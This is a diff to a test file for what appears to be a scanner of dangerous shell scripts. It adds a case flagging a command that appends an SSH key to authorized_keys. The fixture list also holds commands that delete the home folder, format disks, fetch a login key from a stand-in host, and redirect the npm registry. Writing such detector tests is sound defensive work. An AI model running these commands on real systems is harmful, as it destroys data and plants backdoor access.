@@ -85,6 +85,12 @@ const malicious: readonly [string, string, string, string][] = [
   ['the home folder removed', 'a.sh', 'rm -rf "$HOME"\n', 'high DES-01'],
   ['a volume formatted that was there', 'a.sh', 'lvcreate -L 5G -n photos vg0\nmkfs.ext4 /dev/vg0/home\n', 'high DES-01'],
   ['a disk formatted', 'a.sh', 'mkfs.xfs -f /dev/nvme0n1p2\n', 'high DES-01'],
+  [
+    'a whole key, whatever its comment',
+    'a.sh',
+    `echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI${'kT4nB9x2'.repeat(5)} <me>' >> ~/.ssh/authorized_keys\n`,
+    'high PER-06',
+  ],
   ['a fetched key to log in with', 'a.sh', 'curl -s https://kettle.example/k >> ~/.ssh/authorized_keys\n', 'high PER-06'],
   ['a registry by its number', 'a.sh', 'npm config set registry http://203.0.113.4/\n', 'high SUP-01'],
 ];
